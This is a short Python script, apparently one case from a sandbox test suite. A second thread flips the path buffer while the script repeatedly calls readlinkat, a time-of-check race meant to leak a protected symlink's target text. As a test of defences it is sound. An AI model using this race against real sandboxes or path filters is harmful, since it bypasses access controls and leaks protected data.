# SPDX-License-Identifier: Apache-2.0
# attack: another thread flips the path of readlink; the random text of a link is the prize
# class: race
# wins: leak
# needs: race
from kit import *

buf, at, bits = twin_path(b'/link')
text = ctypes.create_string_buffer(256)
tried()
f = Flipper(at, bits)


def one(i):
    n = sc('readlinkat', AT_FDCWD, buf, text, 255)
    if n > 0 and not text.raw.startswith(b'harmless'):
        say(text.raw[:n].decode())
        return True


rounds(one)
f.end()
